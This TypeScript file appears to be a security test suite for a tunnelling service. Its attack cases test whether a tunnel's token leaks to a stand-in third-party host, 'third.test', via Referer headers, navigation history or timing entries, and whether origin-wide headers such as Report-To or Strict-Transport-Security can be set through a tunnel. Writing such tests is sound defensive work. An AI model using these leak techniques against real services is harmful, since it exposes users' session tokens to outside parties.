import { type Attack, happens, type Stage } from './attack.ts'
import { say } from './services.ts'

/** Each of these pages asks the other site; what one did not ask yet, it has not leaked yet. */
const ASKED_MS = 10_000

/** Opens a page of A that asks another site for `/what`, and tells whether that was sent the tunnel's token. */
async function leaks(stage: Stage, what: string, html: string, fields = {}): Promise<boolean> {
  const before = stage.third.seen.length
  const page = await stage.openA(say({ fields, body: `<!doctype html><title>A</title>${html}` }))
  if (html.startsWith('<a')) await page.click('a')
  const seen = () => stage.third.seen.slice(before)
  if (!(await happens(ASKED_MS, () => seen().some(({ url }) => url === `/${what}`))))
    throw new Error(`the other site was not asked for /${what}`)
  return JSON.stringify(seen()).includes(stage.tokenOfA)
}

/** Fields by which a service speaks for all of its origin, or for its host name. */
const ORIGIN_WIDE: Record<string, string> = {
  NEL: '{"report_to":"all","max_age":600,"success_fraction":1}',
  'Report-To': '{"group":"all","max_age":600,"endpoints":[{"url":"https://third.test/"}]}',
  'Reporting-Endpoints': 'default="https://third.test/"',
  'Accept-CH': 'Sec-CH-UA-Model',
  'Origin-Agent-Cluster': '?1',
  'Service-Worker-Allowed': '/',
  'Set-Login': 'logged-out',
}
const NAME_WIDE: Record<string, string> = {
  'Strict-Transport-Security': 'max-age=31536000; includeSubDomains',
  'Alt-Svc': 'h3="third.test:443"; ma=86400',
}

/** The names among `fields` that reach the browser when A's service sends them. */
async function reaching(stage: Stage, fields: Record<string, string>): Promise<string[]> {
  const page = await stage.openA()
  const answer = await page.goto(`${stage.at.a}/${say({ fields })}`)
  const names = Object.keys((await answer?.allHeaders()) ?? {})
  return names.filter((name) => Object.keys(fields).some((field) => field.toLowerCase() === name))
}

/** A tunnel's token on its way to others, and an origin's headers in the hands of one of its tunnels. */
export const ATTACKS_BY_LEAKS: Attack[] = [
  {
    name: "send the tunnel's token to another site as the Referer of an image",
    run: (stage) => leaks(stage, 'image', `<img src="${stage.at.third}/image">`, { 'Referrer-Policy': 'unsafe-url' }),
  },
  {
    name: "send the tunnel's token to another site as the Referer of a script",
    run: (stage) =>
      leaks(stage, 'script', `<script src="${stage.at.third}/script"></script>`, { 'Referrer-Policy': 'unsafe-url' }),
  },
  {
    name: "send the tunnel's token to another site as the Referer of a link",
    run: (stage) =>
      leaks(stage, 'link', `<a href="${stage.at.third}/link">on</a>`, { 'Referrer-Policy': 'unsafe-url' }),
  },
  {
    name: "send the tunnel's token to another site as the Referer of a new window",
    run: (stage) =>
      leaks(stage, 'window', `<a onclick="window.open('${stage.at.third}/window')">on</a>`, {
        'Referrer-Policy': 'unsafe-url',
      }),
  },
  {
    name: "send the tunnel's token to another site by an element's own referrer policy",
    run: (stage) => leaks(stage, 'image', `<img referrerpolicy="unsafe-url" src="${stage.at.third}/image">`),
  },
  {
    name: "find the tunnel's token in address, history or timing",
    async run(stage) {
      const page = await stage.openA(say({ body: '<!doctype html><title>A</title>' }))
      const known = await page.evaluate(() => {
        const { navigation } = window as unknown as { navigation: { entries(): { url: string }[] } }
        const urls = navigation.entries().map(({ url }) => url)
        return JSON.stringify([location.href, document.referrer, performance.getEntries(), urls])
      })
      return known.includes(stage.tokenOfA)
    },
  },
  {
    name: 'speak for the whole origin by a header',
    async run(stage) {
      const isShared = new URL(stage.at.a).origin === new URL(stage.at.b).origin
      return isShared && (await reaching(stage, ORIGIN_WIDE)).length > 0
    },
  },
  {
    name: 'decide by a header how a host name is reached',
    run: async (stage) => (await reaching(stage, NAME_WIDE)).length > 0,
  },
]
